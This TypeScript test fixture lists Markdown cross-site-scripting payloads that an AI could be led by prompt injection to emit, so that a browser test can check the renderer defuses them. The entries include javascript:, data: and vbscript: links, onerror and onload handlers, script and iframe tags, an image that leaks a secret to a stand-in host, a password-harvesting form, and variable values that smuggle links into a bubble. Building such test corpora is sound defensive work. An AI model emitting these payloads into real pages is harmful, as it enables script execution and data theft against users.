/**
 * Markdown an AI could be made to write (a prompt injection) that tries to run code, load
 * something by itself, or send the visitor somewhere unsafe. Each entry names its attack; the
 * browser test (test/browser/streaming.test.ts) streams them all in small pieces and watches for
 * execution, loads and leftovers.
 * `survives` is text that must still be visible (the content is shown, defused, not dropped).
 */
export interface MarkdownAttack {
  attack: string
  markdown: string
  survives?: string
}

export const MARKDOWN_XSS_CORPUS: readonly MarkdownAttack[] = [
  { attack: 'javascript: link', markdown: '[click me](javascript:window.__pwned=1)', survives: 'click me' },
  { attack: 'javascript: link with entities', markdown: '[x](jav&#x09;ascript:window.__pwned=1)' },
  { attack: 'mixed-case javascript: link', markdown: '[x](JaVaScRiPt:window.__pwned=1)' },
  { attack: 'javascript: autolink', markdown: '<javascript:window.__pwned=1>' },
  { attack: 'data: HTML link', markdown: '[open](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)', survives: 'open' },
  { attack: 'vbscript: link', markdown: '[x](vbscript:msgbox(1))' },
  { attack: 'reference link to javascript:', markdown: '[ref][1]\n\n[1]: javascript:window.__pwned=1' },
  { attack: 'image with onerror in raw HTML', markdown: '<img src=x onerror="window.__pwned=1">', survives: '<img src=x' },
  {
    attack: 'Markdown image whose loading would leak data',
    markdown: '![tracking](https://127.0.0.1:9/leak?secret=1)',
    survives: 'tracking',
  },
  { attack: 'Markdown image with javascript: source', markdown: '![x](javascript:window.__pwned=1)' },
  {
    attack: 'Markdown image with data:image/svg+xml',
    markdown: '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=)',
  },
  { attack: 'raw script block', markdown: '<script>window.__pwned=1</script>', survives: '<script>' },
  { attack: 'raw iframe with srcdoc', markdown: '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>' },
  { attack: 'inline raw HTML with event handler', markdown: 'Hello <b onmouseover="window.__pwned=1">there</b>', survives: 'Hello' },
  { attack: 'svg with onload', markdown: '<svg onload="window.__pwned=1"></svg>' },
  { attack: 'style tag restyling the widget', markdown: '<style>*{display:none}</style>' },
  { attack: 'form asking for a password', markdown: '<form action="https://127.0.0.1:9"><input type=password></form>' },
  { attack: 'HTML inside a link text', markdown: '[<img src=x onerror=window.__pwned=1>](https://example.com)' },
  { attack: 'link title breaking out of its attribute', markdown: '[x](https://example.com "a\\" onmouseover=\\"window.__pwned=1")' },
  { attack: 'HTML comment hiding a script', markdown: '<!-- --><script>window.__pwned=1</script><!-- -->' },
  {
    attack: 'code span holding a script (must stay text)',
    markdown: '`<script>window.__pwned=1</script>`',
    survives: '<script>window.__pwned=1</script>',
  },
  {
    attack: 'fenced code holding HTML (must stay text)',
    markdown: '```html\n<img src=x onerror=window.__pwned=1>\n```',
    survives: '<img src=x onerror=window.__pwned=1>',
  },
  {
    attack: 'object/embed tags',
    markdown: '<object data="javascript:window.__pwned=1"></object><embed src="javascript:window.__pwned=1">',
  },
  { attack: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">' },
  // Values a variable inserted into a text bubble may hold (a visitor's answer, an HTTP response).
  {
    attack: "variable value closing the bubble's own link and opening a javascript: one",
    markdown: 'x](https://example.com) [go](javascript:window.__pwned=1',
    survives: 'go',
  },
  {
    attack: 'variable value with a reference definition hijacking a link',
    markdown: '[pay here][p]\n\n[p]: javascript:window.__pwned=1',
    survives: 'pay here',
  },
  { attack: 'variable value with an autolink to a data: document', markdown: '<data:text/html,<script>window.__pwned=1</script>>' },
  {
    attack: 'variable value with HTML entities that decode to a tag',
    markdown: '&lt;img src=x onerror=window.__pwned=1&gt;',
    survives: '<img src=x',
  },
]
